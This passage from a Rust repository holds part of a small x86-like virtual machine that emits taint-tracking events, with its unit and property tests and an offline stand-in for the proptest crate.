                self.cpu.set(Reg::Esp, esp.wrapping_add(4));
                let dst_loc = self.write(dst, value, 4)?;
                hooks.on_taint(image_id, &TaintOp::mov(dst_loc, Loc::Mem(esp, 4)));
            }
            Instr::Jmp(t) => {
                self.cpu.eip = self.resolve_target(t)?;
            }
            Instr::J(c, t) => {
                if self.cond(*c) {
                    self.cpu.eip = self.resolve_target(t)?;
                }
            }
            Instr::Call(t) => {
                let target = self.resolve_target(t)?;
                let esp = self.cpu.get(Reg::Esp).wrapping_sub(4);
                self.cpu.set(Reg::Esp, esp);
                self.mem.write_u32(esp, next)?;
                hooks.on_taint(image_id, &TaintOp::clear(Loc::Mem(esp, 4)));
                self.cpu.eip = target;
                let to_image =
                    self.image_at(target).map(|(id, _)| id).ok_or(VmError::NoText(target))?;
                let symbol = self.symbol_at.get(&target).cloned();
                hooks.on_call(image_id, to_image, target, symbol.as_ref());
            }
            Instr::Ret => {
                let esp = self.cpu.get(Reg::Esp);
                let ret = self.mem.read_u32(esp)?;
                self.cpu.set(Reg::Esp, esp.wrapping_add(4));
                self.cpu.eip = ret;
                let to_image = self.image_at(ret).map(|(id, _)| id).ok_or(VmError::NoText(ret))?;
                hooks.on_ret(to_image, ret);
            }
            Instr::Movsb => {
                let src = self.cpu.get(Reg::Esi);
                let dst = self.cpu.get(Reg::Edi);
                let byte = self.mem.read_u8(src)?;
                self.mem.write_u8(dst, byte)?;
                self.cpu.set(Reg::Esi, src.wrapping_add(1));
                self.cpu.set(Reg::Edi, dst.wrapping_add(1));
                hooks.on_taint(image_id, &TaintOp::mov(Loc::Mem(dst, 1), Loc::Mem(src, 1)));
            }
            Instr::Loop(t) => {
                let ecx = self.cpu.get(Reg::Ecx).wrapping_sub(1);
                self.cpu.set(Reg::Ecx, ecx);
                hooks.on_taint(
                    image_id,
                    &TaintOp {
                        dst: Loc::Reg(Reg::Ecx),
                        srcs: [Some(Loc::Reg(Reg::Ecx)), None],
                        imm: true,
                        hardware: false,
                    },
                );
                if ecx != 0 {
                    self.cpu.eip = self.resolve_target(t)?;
                }
            }
            Instr::Cpuid => {
                for (i, reg) in [Reg::Eax, Reg::Ebx, Reg::Ecx, Reg::Edx].into_iter().enumerate() {
                    self.cpu.set(reg, self.cpuid_values[i]);
                    hooks.on_taint(image_id, &TaintOp::hardware(Loc::Reg(reg)));
                }
            }
        }
        Ok(StepEvent::Continue)
    }

    fn resolve_target(&self, t: &Target) -> Result<u32, VmError> {
        match t {
            Target::Abs(a) => Ok(*a),
            Target::Extern(sym) => Err(VmError::UnresolvedExtern(sym.to_string())),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::asm::assemble;

    fn run_source(src: &str) -> (Core, Vec<StepEvent>) {
        let img = assemble("/bin/t", src, 0x0804_8000).unwrap();
        let mut core = Core::new();
        core.load_image(img);
        core.link().unwrap();
        core.start();
        // A tiny stack for push/pop tests.
        core.mem.map(0xbfff_0000, 0xc000_0000);
        core.cpu.set(Reg::Esp, 0xbfff_f000);
        let mut events = Vec::new();
        let mut hooks = NullHooks;
        for _ in 0..10_000 {
            let ev = core.step(&mut hooks).unwrap();
            events.push(ev);
            if ev == StepEvent::Halted {
                break;
            }
        }
        (core, events)
    }

    #[test]
    fn arithmetic_and_flags() {
        let (core, _) = run_source(
            r"
            _start:
                mov eax, 10
                sub eax, 3
                imul eax, 6
                add eax, 2
                hlt
            ",
        );
        assert_eq!(core.cpu.get(Reg::Eax), 44);
    }

    #[test]
    fn loop_with_counter() {
        let (core, _) = run_source(
            r"
            _start:
                mov ecx, 5
                xor eax, eax
            loop:
                add eax, ecx
                dec ecx
                cmp ecx, 0
                jne loop
                hlt
            ",
        );
        assert_eq!(core.cpu.get(Reg::Eax), 15);
    }

    #[test]
    fn signed_vs_unsigned_branches() {
        let (core, _) = run_source(
            r"
            _start:
                mov eax, -1
                cmp eax, 1
                jl signed_less     ; -1 < 1 signed
                mov ebx, 0
                hlt
            signed_less:
                mov ebx, 1
                cmp eax, 1         ; 0xffffffff > 1 unsigned
                ja unsigned_above
                hlt
            unsigned_above:
                mov ecx, 1
                hlt
            ",
        );
        assert_eq!(core.cpu.get(Reg::Ebx), 1);
        assert_eq!(core.cpu.get(Reg::Ecx), 1);
    }

    #[test]
    fn call_and_ret() {
        let (core, _) = run_source(
            r"
            _start:
                call fn
                add eax, 1
                hlt
            fn:
                mov eax, 41
                ret
            ",
        );
        assert_eq!(core.cpu.get(Reg::Eax), 42);
    }

    #[test]
    fn push_pop_round_trip() {
        let (core, _) = run_source(
            r"
            _start:
                mov eax, 123
                push eax
                mov eax, 0
                pop ebx
                hlt
            ",
        );
        assert_eq!(core.cpu.get(Reg::Ebx), 123);
    }

    #[test]
    fn data_section_access() {
        let (core, _) = run_source(
            r"
            _start:
                mov eax, [value]
                movb ebx, [bytes+1]
                hlt
            .data
            value: .long 7
            bytes: .byte 1, 2, 3
            ",
        );
        assert_eq!(core.cpu.get(Reg::Eax), 7);
        assert_eq!(core.cpu.get(Reg::Ebx), 2);
    }

    #[test]
    fn interrupt_surfaces_to_caller() {
        let (_, events) = run_source("_start:\n mov eax, 1\n int 0x80\n hlt\n");
        assert_eq!(events[1], StepEvent::Interrupt(0x80));
    }

    #[test]
    fn cpuid_sets_registers() {
        let img = assemble("/bin/t", "_start:\n cpuid\n hlt\n", 0).unwrap();
        let mut core = Core::new();
        core.set_cpuid([1, 2, 3, 4]);
        core.load_image(img);
        core.link().unwrap();
        core.start();
        let mut taints = Vec::new();
        struct Rec<'a>(&'a mut Vec<TaintOp>);
        impl Hooks for Rec<'_> {
            fn on_taint(&mut self, _: ImageId, op: &TaintOp) {
                self.0.push(*op);
            }
        }
        core.step(&mut Rec(&mut taints)).unwrap();
        assert_eq!(core.cpu.get(Reg::Eax), 1);
        assert_eq!(core.cpu.get(Reg::Edx), 4);
        assert_eq!(taints.len(), 4);
        assert!(taints.iter().all(|t| t.hardware));
    }

    #[test]
    fn unmapped_access_is_a_fault() {
        let img = assemble("/bin/t", "_start:\n mov eax, [0x10]\n hlt\n", 0x1000).unwrap();
        let mut core = Core::new();
        core.load_image(img);
        core.link().unwrap();
        core.start();
        assert!(matches!(core.step(&mut NullHooks), Err(VmError::Fault(_))));
    }

    #[test]
    fn wild_jump_is_no_text() {
        let img = assemble("/bin/t", "_start:\n jmp 0x99999000\n", 0x1000).unwrap();
        let mut core = Core::new();
        core.load_image(img);
        core.link().unwrap();
        core.start();
        core.step(&mut NullHooks).unwrap();
        assert!(matches!(core.step(&mut NullHooks), Err(VmError::NoText(0x9999_9000))));
    }

    #[test]
    fn cross_image_call_via_extern() {
        let app =
            assemble("/bin/app", ".extern helper\n_start:\n call helper\n hlt\n", 0x0804_8000)
                .unwrap();
        let lib = assemble("libc.so", ".global helper\nhelper:\n mov eax, 99\n ret\n", 0x4000_0000)
            .unwrap();
        let mut core = Core::new();
        core.load_image(app);
        core.load_image(lib);
        core.link().unwrap();
        core.start();
        core.mem.map(0xbfff_0000, 0xc000_0000);
        core.cpu.set(Reg::Esp, 0xbfff_f000);

        struct CallRec(Vec<(ImageId, ImageId, Option<String>)>);
        impl Hooks for CallRec {
            fn on_call(
                &mut self,
                from: ImageId,
                to: ImageId,
                _target: u32,
                symbol: Option<&Arc<str>>,
            ) {
                self.0.push((from, to, symbol.map(|s| s.to_string())));
            }
        }
        let mut hooks = CallRec(Vec::new());
        while core.step(&mut hooks).unwrap() == StepEvent::Continue {}
        assert_eq!(core.cpu.get(Reg::Eax), 99);
        assert_eq!(hooks.0.len(), 1);
        let (from, to, sym) = &hooks.0[0];
        assert_eq!(from, &ImageId(0));
        assert_eq!(to, &ImageId(1));
        assert_eq!(sym.as_deref(), Some("helper"));
    }

    #[test]
    fn missing_extern_fails_at_link() {
        let app = assemble("/bin/app", ".extern nope\n_start:\n call nope\n hlt\n", 0).unwrap();
        let mut core = Core::new();
        core.load_image(app);
        assert!(matches!(core.link(), Err(VmError::UnresolvedExtern(_))));
    }

    #[test]
    fn xor_self_clears_taint() {
        let img = assemble("/bin/t", "_start:\n xor eax, eax\n hlt\n", 0).unwrap();
        let mut core = Core::new();
        core.load_image(img);
        core.link().unwrap();
        core.start();
        struct Rec(Vec<TaintOp>);
        impl Hooks for Rec {
            fn on_taint(&mut self, _: ImageId, op: &TaintOp) {
                self.0.push(*op);
            }
        }
        let mut hooks = Rec(Vec::new());
        core.step(&mut hooks).unwrap();
        assert_eq!(hooks.0[0], TaintOp::clear(Loc::Reg(Reg::Eax)));
    }

    #[test]
    fn bb_hook_fires_on_leaders_only() {
        let img = assemble(
            "/bin/t",
            "_start:\n mov eax, 1\n jmp next\nnext:\n mov ebx, 2\n hlt\n",
            0x1000,
        )
        .unwrap();
        let mut core = Core::new();
        core.load_image(img);
        core.link().unwrap();
        core.start();
        struct Bb(Vec<u32>);
        impl Hooks for Bb {
            fn on_bb(&mut self, _: ImageId, leader: u32) {
                self.0.push(leader);
            }
        }
        let mut hooks = Bb(Vec::new());
        while core.step(&mut hooks).unwrap() == StepEvent::Continue {}
        assert_eq!(hooks.0, vec![0x1000, 0x1008]);
    }
}
