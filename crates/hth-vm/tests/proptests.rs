//! Property-based tests for the VM substrate: memory, assembler
//! round-trips, ALU/flag semantics against a Rust reference model.

use proptest::prelude::*;

use hth_vm::{asm, Core, Memory, NullHooks, Reg, StepEvent};

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// Byte writes read back; u32 accessors agree with little-endian
    /// byte composition at arbitrary (mapped) addresses.
    #[test]
    fn memory_round_trips(
        offset in 0u32..0x2000,
        value in any::<u32>(),
    ) {
        let mut mem = Memory::new();
        mem.map(0x1000, 0x4000);
        let addr = 0x1000 + offset;
        mem.write_u32(addr, value).unwrap();
        prop_assert_eq!(mem.read_u32(addr).unwrap(), value);
        let bytes = value.to_le_bytes();
        for (i, b) in bytes.iter().enumerate() {
            prop_assert_eq!(mem.read_u8(addr + i as u32).unwrap(), *b);
        }
    }

    /// Arithmetic programs compute what a Rust reference computes, for
    /// every ALU operation and operand pair.
    #[test]
    fn alu_matches_reference(
        a in any::<u32>(),
        b in any::<u32>(),
        op_idx in 0usize..8,
    ) {
        let (mnemonic, reference): (&str, fn(u32, u32) -> u32) = [
            ("add", (|x, y| x.wrapping_add(y)) as fn(u32, u32) -> u32),
            ("sub", |x, y| x.wrapping_sub(y)),
            ("and", |x, y| x & y),
            ("or", |x, y| x | y),
            ("xor", |x, y| x ^ y),
            ("imul", |x, y| (x as i32).wrapping_mul(y as i32) as u32),
            ("shl", |x, y| x.wrapping_shl(y & 31)),
            ("shr", |x, y| x.wrapping_shr(y & 31)),
        ][op_idx];
        let src = format!(
            "_start:\n mov eax, {a:#x}\n mov ebx, {b:#x}\n {mnemonic} eax, ebx\n hlt\n"
        );
        let image = asm::assemble("/t", &src, 0x1000).unwrap();
        let mut core = Core::new();
        core.load_image(image);
        core.link().unwrap();
        core.start();
        while core.step(&mut NullHooks).unwrap() == StepEvent::Continue {}
        prop_assert_eq!(core.cpu.get(Reg::Eax), reference(a, b));
    }

    /// Signed and unsigned conditional branches agree with Rust's
    /// comparison operators on the same operands.
    #[test]
    fn branch_semantics_match_reference(a in any::<u32>(), b in any::<u32>()) {
        let cases: [(&str, bool); 6] = [
            ("jl", (a as i32) < (b as i32)),
            ("jge", (a as i32) >= (b as i32)),
            ("jb", a < b),
            ("jae", a >= b),
            ("je", a == b),
            ("jne", a != b),
        ];
        for (jcc, expected) in cases {
            let src = format!(
                "_start:\n mov eax, {a:#x}\n mov ebx, {b:#x}\n cmp eax, ebx\n {jcc} taken\n mov ecx, 0\n hlt\ntaken:\n mov ecx, 1\n hlt\n"
            );
            let image = asm::assemble("/t", &src, 0x1000).unwrap();
            let mut core = Core::new();
            core.load_image(image);
            core.link().unwrap();
            core.start();
            while core.step(&mut NullHooks).unwrap() == StepEvent::Continue {}
            prop_assert_eq!(
                core.cpu.get(Reg::Ecx) == 1,
                expected,
                "{} with a={:#x} b={:#x}", jcc, a, b
            );
        }
    }

    /// Push/pop sequences behave like a stack (LIFO), preserving values.
    #[test]
    fn stack_is_lifo(values in prop::collection::vec(any::<u32>(), 1..6)) {
        let mut src = String::from("_start:\n");
        for v in &values {
            src.push_str(&format!(" mov eax, {v:#x}\n push eax\n"));
        }
        // Pop into memory slots in order.
        for i in 0..values.len() {
            src.push_str(&format!(" pop ebx\n mov [{:#x}], ebx\n", 0x0900_0000 + 4 * i as u32));
        }
        src.push_str(" hlt\n");
        let image = asm::assemble("/t", &src, 0x1000).unwrap();
        let mut core = Core::new();
        core.load_image(image);
        core.link().unwrap();
        core.mem.map(0x0900_0000, 0x0900_1000);
        core.mem.map(0xbfff_0000, 0xc000_0000);
        core.cpu.set(Reg::Esp, 0xbfff_f000);
        core.start();
        while core.step(&mut NullHooks).unwrap() == StepEvent::Continue {}
        for (i, v) in values.iter().rev().enumerate() {
            prop_assert_eq!(core.mem.read_u32(0x0900_0000 + 4 * i as u32).unwrap(), *v);
        }
    }

    /// The assembler accepts what the disassembler prints for
    /// label-free instructions (partial round-trip).
    #[test]
    fn disasm_reassembles(
        reg_idx in 0usize..8,
        imm in any::<u32>(),
        disp in -64i32..64,
    ) {
        let reg = Reg::ALL[reg_idx];
        let lines = [
            format!("mov {reg}, {imm:#x}"),
            format!("add {reg}, {imm:#x}"),
            format!("mov eax, [{reg}{}{:#x}]", if disp < 0 { "-" } else { "+" }, disp.unsigned_abs()),
            format!("push {reg}"),
            format!("neg {reg}"),
        ];
        for line in &lines {
            let src = format!("_start:\n {line}\n hlt\n");
            let image = asm::assemble("/t", &src, 0).unwrap();
            let printed = image.text()[0].to_string();
            let src2 = format!("_start:\n {printed}\n hlt\n");
            let image2 = asm::assemble("/t", &src2, 0).unwrap();
            prop_assert_eq!(&image.text()[0], &image2.text()[0], "line: {}", line);
        }
    }

    /// Basic-block leaders always include the entry and are sorted,
    /// deduplicated, and inside the image, for random small programs.
    #[test]
    fn bb_leaders_well_formed(
        jumps in prop::collection::vec(0usize..8, 0..6),
    ) {
        let mut src = String::from("_start:\n");
        for (i, _) in jumps.iter().enumerate() {
            src.push_str(&format!("l{i}:\n nop\n"));
        }
        for (i, target) in jumps.iter().enumerate() {
            src.push_str(&format!(" jne l{}\n", (*target).min(jumps.len().saturating_sub(1))));
            let _ = i;
        }
        src.push_str(" hlt\n");
        let image = asm::assemble("/t", &src, 0x2000).unwrap();
        let leaders = image.bb_leaders();
        prop_assert!(leaders.contains(&0x2000));
        let mut sorted = leaders.to_vec();
        sorted.sort_unstable();
        sorted.dedup();
        prop_assert_eq!(&sorted, leaders);
        for leader in leaders {
            prop_assert!(image.contains_text(*leader));
        }
    }
}
