//! Tests for the string instructions (`movsb`, `loop`) and — via the
//! harrier-style taint hook — per-byte taint precision through copies.

use hth_vm::{asm, Core, Hooks, ImageId, Loc, NullHooks, Reg, StepEvent, TaintOp};

fn run(src: &str) -> Core {
    let image = asm::assemble("/t", src, 0x1000).unwrap();
    let mut core = Core::new();
    core.load_image(image);
    core.link().unwrap();
    core.mem.map(0x0900_0000, 0x0901_0000);
    core.start();
    while core.step(&mut NullHooks).unwrap() == StepEvent::Continue {}
    core
}

#[test]
fn movsb_loop_copies_a_string() {
    let core = run(r#"
        _start:
            mov esi, src
            mov edi, 0x09000000
            mov ecx, 6
        copy:
            movsb
            loop copy
            hlt
        .data
        src: .asciz "secret"
        "#);
    assert_eq!(core.mem.read_bytes(0x0900_0000, 6).unwrap(), b"secret");
    assert_eq!(core.cpu.get(Reg::Ecx), 0);
    assert_eq!(core.cpu.get(Reg::Edi), 0x0900_0006);
}

#[test]
fn loop_executes_exactly_ecx_times() {
    let core = run(r"
        _start:
            mov ecx, 7
            xor eax, eax
        again:
            inc eax
            loop again
            hlt
        ");
    assert_eq!(core.cpu.get(Reg::Eax), 7);
}

#[test]
fn movsb_emits_per_byte_taint_ops() {
    struct Rec(Vec<TaintOp>);
    impl Hooks for Rec {
        fn on_taint(&mut self, _: ImageId, op: &TaintOp) {
            self.0.push(*op);
        }
    }
    let image = asm::assemble(
        "/t",
        r#"
        _start:
            mov esi, src
            mov edi, 0x09000000
            mov ecx, 3
        copy:
            movsb
            loop copy
            hlt
        .data
        src: .asciz "abc"
        "#,
        0x1000,
    )
    .unwrap();
    let src_base = image.data_base();
    let mut core = Core::new();
    core.load_image(image);
    core.link().unwrap();
    core.mem.map(0x0900_0000, 0x0901_0000);
    core.start();
    let mut hooks = Rec(Vec::new());
    while core.step(&mut hooks).unwrap() == StepEvent::Continue {}
    // Each movsb must move exactly one byte of taint from src+i to dst+i
    // — the per-byte precision the paper's shadow design requires.
    let moves: Vec<&TaintOp> = hooks
        .0
        .iter()
        .filter(
            |op| matches!(op.dst, Loc::Mem(addr, 1) if (0x0900_0000..0x0900_0003).contains(&addr)),
        )
        .collect();
    assert_eq!(moves.len(), 3);
    for (i, op) in moves.iter().enumerate() {
        assert_eq!(op.dst, Loc::Mem(0x0900_0000 + i as u32, 1));
        assert_eq!(op.srcs[0], Some(Loc::Mem(src_base + i as u32, 1)));
        assert!(!op.imm && !op.hardware);
    }
}

#[test]
fn loop_is_a_basic_block_boundary() {
    let image =
        asm::assemble("/t", "_start:\n mov ecx, 2\nbody:\n nop\n loop body\n hlt\n", 0x1000)
            .unwrap();
    // Leaders: entry, `body` (loop target), and the post-loop hlt.
    assert_eq!(image.bb_leaders(), &[0x1000, 0x1004, 0x100c]);
}
