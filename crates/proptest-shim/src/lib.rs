//! # proptest-shim — an offline, dependency-free subset of `proptest`
//!
//! The container this repository builds in has no network access and no
//! crates.io cache, so the real `proptest` crate cannot be downloaded.
//! This crate reimplements the small slice of its API that the test
//! suite actually uses — `proptest!`, `prop_assert*!`, `prop_oneof!`,
//! [`Just`], [`any`], range/tuple/vec strategies, `prop_map`, and a
//! loose string-pattern generator — on top of a deterministic SplitMix64
//! generator, and is wired in as `proptest = { package = "proptest-shim" }`.
//!
//! Differences from real proptest, deliberately accepted:
//!
//! * **No shrinking.** Failures report the test name and case index; the
//!   generator is deterministic per `(test name, case, seed)`, so a
//!   failing case replays exactly by re-running the test.
//! * **Deterministic by default.** The base seed is `0` unless the
//!   `PROPTEST_SEED` environment variable overrides it; `PROPTEST_CASES`
//!   overrides the per-test case count (useful for CI smoke runs).
//! * **String patterns are approximations**: a pattern like
//!   `"\\PC{0,120}"` produces up to 120 printable (mostly-ASCII)
//!   characters rather than a true regex-derived distribution.

#![warn(missing_docs)]

use std::collections::hash_map::DefaultHasher;
use std::hash::{Hash, Hasher};
use std::marker::PhantomData;
use std::ops::{Range, RangeInclusive};

pub mod collection;

/// Deterministic SplitMix64 generator used by every strategy.
#[derive(Clone, Debug)]
pub struct TestRng(u64);

impl TestRng {
    /// RNG for one test case: seeded from the test's full path, the
    /// case index, and the optional `PROPTEST_SEED` env override.
    pub fn for_case(test: &str, case: u32) -> TestRng {
        let base =
            std::env::var("PROPTEST_SEED").ok().and_then(|s| s.parse::<u64>().ok()).unwrap_or(0);
        let mut hasher = DefaultHasher::new();
        test.hash(&mut hasher);
        case.hash(&mut hasher);
        base.hash(&mut hasher);
        TestRng(hasher.finish() | 1)
    }

    /// Next raw 64-bit value (SplitMix64).
    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform value in `[0, n)`; `n` must be non-zero.
    pub fn below(&mut self, n: u64) -> u64 {
        self.next_u64() % n
    }

    /// Uniform boolean.
    pub fn bool(&mut self) -> bool {
        self.next_u64() & 1 == 1
    }
}

/// A value generator. The shim's [`Strategy`] has no shrinking: it only
/// knows how to produce a value from a [`TestRng`].
pub trait Strategy {
    /// The type of generated values.
    type Value;

    /// Generates one value.
    fn generate(&self, rng: &mut TestRng) -> Self::Value;

    /// Maps generated values through `f` (proptest's `prop_map`).
    fn prop_map<O, F>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
        F: Fn(Self::Value) -> O,
    {
        Map { inner: self, f }
    }

    /// Type-erases the strategy (used by `prop_oneof!`).
    fn boxed(self) -> BoxedStrategy<Self::Value>
    where
        Self: Sized + 'static,
    {
        Box::new(self)
    }
}

/// A type-erased strategy.
pub type BoxedStrategy<T> = Box<dyn Strategy<Value = T>>;

impl<T> Strategy for BoxedStrategy<T> {
    type Value = T;

    fn generate(&self, rng: &mut TestRng) -> T {
        (**self).generate(rng)
    }
}

/// Always produces a clone of the given value (proptest's `Just`).
#[derive(Clone, Debug)]
pub struct Just<T>(pub T);

impl<T: Clone> Strategy for Just<T> {
    type Value = T;

    fn generate(&self, _rng: &mut TestRng) -> T {
        self.0.clone()
    }
}

/// Strategy produced by [`Strategy::prop_map`].
#[derive(Clone, Debug)]
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S: Strategy, O, F: Fn(S::Value) -> O> Strategy for Map<S, F> {
    type Value = O;

    fn generate(&self, rng: &mut TestRng) -> O {
        (self.f)(self.inner.generate(rng))
    }
}

/// Uniform choice between type-erased alternatives (`prop_oneof!`).
pub struct Union<T> {
    arms: Vec<BoxedStrategy<T>>,
}

impl<T> Union<T> {
    /// A union over the given arms.
    ///
    /// # Panics
    ///
    /// Panics when `arms` is empty.
    pub fn new(arms: Vec<BoxedStrategy<T>>) -> Union<T> {
        assert!(!arms.is_empty(), "prop_oneof! needs at least one arm");
        Union { arms }
    }
}

impl<T> Strategy for Union<T> {
    type Value = T;

    fn generate(&self, rng: &mut TestRng) -> T {
        let idx = rng.below(self.arms.len() as u64) as usize;
        self.arms[idx].generate(rng)
    }
}

macro_rules! int_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for Range<$t> {
            type Value = $t;

            fn generate(&self, rng: &mut TestRng) -> $t {
                assert!(self.start < self.end, "empty range strategy");
                let span = (self.end as i128 - self.start as i128) as u64;
                (self.start as i128 + rng.below(span) as i128) as $t
            }
        }

        impl Strategy for RangeInclusive<$t> {
            type Value = $t;

            fn generate(&self, rng: &mut TestRng) -> $t {
                assert!(self.start() <= self.end(), "empty range strategy");
                let span = (*self.end() as i128 - *self.start() as i128 + 1) as u64;
                (*self.start() as i128 + rng.below(span) as i128) as $t
            }
        }
    )*};
}

int_range_strategy!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

/// Full-range generator backing [`any`].
#[derive(Clone, Copy, Debug, Default)]
pub struct AnyStrategy<T>(PhantomData<T>);

/// Types with a canonical full-range strategy (proptest's `Arbitrary`).
pub trait Arbitrary: Sized {
    /// Produces a full-range value.
    fn arbitrary(rng: &mut TestRng) -> Self;
}

impl<T: Arbitrary> Strategy for AnyStrategy<T> {
    type Value = T;

    fn generate(&self, rng: &mut TestRng) -> T {
        T::arbitrary(rng)
    }
}

/// Full-range strategy for `T` (proptest's `any::<T>()`).
pub fn any<T: Arbitrary>() -> AnyStrategy<T> {
    AnyStrategy(PhantomData)
}

macro_rules! arbitrary_int {
    ($($t:ty),*) => {$(
        impl Arbitrary for $t {
            fn arbitrary(rng: &mut TestRng) -> $t {
                rng.next_u64() as $t
            }
        }
    )*};
}

arbitrary_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Arbitrary for bool {
    fn arbitrary(rng: &mut TestRng) -> bool {
        rng.bool()
    }
}

macro_rules! tuple_strategy {
    ($(($($s:ident),+))*) => {$(
        impl<$($s: Strategy),+> Strategy for ($($s,)+) {
            type Value = ($($s::Value,)+);

            #[allow(non_snake_case)]
            fn generate(&self, rng: &mut TestRng) -> Self::Value {
                let ($($s,)+) = self;
                ($($s.generate(rng),)+)
            }
        }
    )*};
}

tuple_strategy! {
    (A)
    (A, B)
    (A, B, C)
    (A, B, C, D)
    (A, B, C, D, E)
    (A, B, C, D, E, F)
}

/// Loose string-pattern strategy: `"\\PC{lo,hi}"`-style patterns produce
/// `lo..=hi` printable characters (mostly ASCII with occasional
/// multi-byte ones); any other pattern produces 0–16 such characters.
impl Strategy for &str {
    type Value = String;

    fn generate(&self, rng: &mut TestRng) -> String {
        let (lo, hi) = parse_repeat_bounds(self).unwrap_or((0, 16));
        let len = lo + rng.below((hi - lo + 1) as u64) as usize;
        let mut out = String::with_capacity(len);
        for _ in 0..len {
            if rng.below(10) == 0 {
                const EXOTIC: [char; 6] = ['é', 'ß', 'λ', '中', '🙂', '\u{2028}'];
                out.push(EXOTIC[rng.below(EXOTIC.len() as u64) as usize]);
            } else {
                out.push((0x20 + rng.below(0x5f) as u8) as char);
            }
        }
        out
    }
}

/// Extracts `{lo,hi}` from the tail of a pattern like `"\\PC{0,120}"`.
fn parse_repeat_bounds(pattern: &str) -> Option<(usize, usize)> {
    let body = pattern.strip_suffix('}')?;
    let open = body.rfind('{')?;
    let (lo, hi) = body[open + 1..].split_once(',')?;
    Some((lo.trim().parse().ok()?, hi.trim().parse().ok()?))
}

/// Per-block configuration (`#![proptest_config(..)]`).
#[derive(Clone, Copy, Debug)]
pub struct ProptestConfig {
    /// Number of cases each test runs.
    pub cases: u32,
}

impl ProptestConfig {
    /// A config running `cases` cases per test.
    pub fn with_cases(cases: u32) -> ProptestConfig {
        ProptestConfig { cases }
    }

    /// The case count after applying the `PROPTEST_CASES` env override.
    pub fn resolved_cases(&self) -> u32 {
        std::env::var("PROPTEST_CASES")
            .ok()
            .and_then(|s| s.parse().ok())
            .unwrap_or(self.cases)
            .max(1)
    }
}

impl Default for ProptestConfig {
    fn default() -> ProptestConfig {
        ProptestConfig { cases: 256 }
    }
}

/// Prints the failing case index when a test body panics, since the
/// shim has no shrinking or persistence files.
pub struct CaseGuard {
    /// Full test path.
    pub test: &'static str,
    /// Zero-based case index.
    pub case: u32,
}

impl Drop for CaseGuard {
    fn drop(&mut self) {
        if std::thread::panicking() {
            eprintln!(
                "proptest-shim: test {} failed at case {} \
                 (deterministic; re-run reproduces it, PROPTEST_SEED varies it)",
                self.test, self.case
            );
        }
    }
}

/// Defines property tests: each `fn name(pat in strategy, ..) { body }`
/// becomes a `#[test]` running the body over many generated cases.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_items! { cfg = ($cfg); $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_items! { cfg = ($crate::ProptestConfig::default()); $($rest)* }
    };
}

/// Implementation detail of [`proptest!`].
#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_items {
    (cfg = ($cfg:expr);) => {};
    (cfg = ($cfg:expr);
     $(#[$meta:meta])*
     fn $name:ident($($pat:pat in $strat:expr),+ $(,)?) $body:block
     $($rest:tt)*
    ) => {
        $(#[$meta])*
        fn $name() {
            const TEST_PATH: &str = concat!(module_path!(), "::", stringify!($name));
            let config: $crate::ProptestConfig = $cfg;
            for case in 0..config.resolved_cases() {
                let guard = $crate::CaseGuard { test: TEST_PATH, case };
                let mut rng = $crate::TestRng::for_case(TEST_PATH, case);
                let ($($pat,)+) = ($($crate::Strategy::generate(&$strat, &mut rng),)+);
                $body
                drop(guard);
            }
        }
        $crate::__proptest_items! { cfg = ($cfg); $($rest)* }
    };
}

/// Asserts a condition inside a property test.
#[macro_export]
macro_rules! prop_assert {
    ($($args:tt)*) => { assert!($($args)*) };
}

/// Asserts equality inside a property test.
#[macro_export]
macro_rules! prop_assert_eq {
    ($($args:tt)*) => { assert_eq!($($args)*) };
}

/// Asserts inequality inside a property test.
#[macro_export]
macro_rules! prop_assert_ne {
    ($($args:tt)*) => { assert_ne!($($args)*) };
}

/// Uniform choice between strategies producing the same value type.
#[macro_export]
macro_rules! prop_oneof {
    ($($arm:expr),+ $(,)?) => {
        $crate::Union::new(vec![$($crate::Strategy::boxed($arm)),+])
    };
}

/// Everything a test file needs: `use proptest::prelude::*;`.
pub mod prelude {
    pub use crate::{
        any, prop_assert, prop_assert_eq, prop_assert_ne, prop_oneof, proptest, Just,
        ProptestConfig, Strategy,
    };

    /// The `prop::` namespace (`prop::collection::vec`, ...).
    pub mod prop {
        pub use crate::collection;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn ranges_stay_in_bounds() {
        let mut rng = TestRng::for_case("ranges", 0);
        for _ in 0..1000 {
            let v = (3u32..17).generate(&mut rng);
            assert!((3..17).contains(&v));
            let s = (-64i32..64).generate(&mut rng);
            assert!((-64..64).contains(&s));
            let i = (0usize..=5).generate(&mut rng);
            assert!(i <= 5);
        }
    }

    #[test]
    fn determinism_per_case() {
        let a: Vec<u64> = (0..10).map(|_| TestRng::for_case("t", 3).next_u64()).collect();
        assert!(a.windows(2).all(|w| w[0] == w[1]));
        assert_ne!(TestRng::for_case("t", 3).next_u64(), TestRng::for_case("t", 4).next_u64());
    }

    #[test]
    fn vec_and_oneof_and_map() {
        let mut rng = TestRng::for_case("vec", 0);
        let strat = collection::vec(prop_oneof![Just(1), Just(2)].prop_map(|x| x * 10), 2..5);
        for _ in 0..100 {
            let v = strat.generate(&mut rng);
            assert!((2..5).contains(&v.len()));
            assert!(v.iter().all(|x| *x == 10 || *x == 20));
        }
    }

    #[test]
    fn string_pattern_bounds() {
        let mut rng = TestRng::for_case("str", 0);
        for _ in 0..50 {
            let s = "\\PC{0,120}".generate(&mut rng);
            assert!(s.chars().count() <= 120);
        }
        assert_eq!(parse_repeat_bounds("\\PC{0,60}"), Some((0, 60)));
        assert_eq!(parse_repeat_bounds("plain"), None);
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(32))]

        /// The macro itself: patterns bind, bodies run per case.
        #[test]
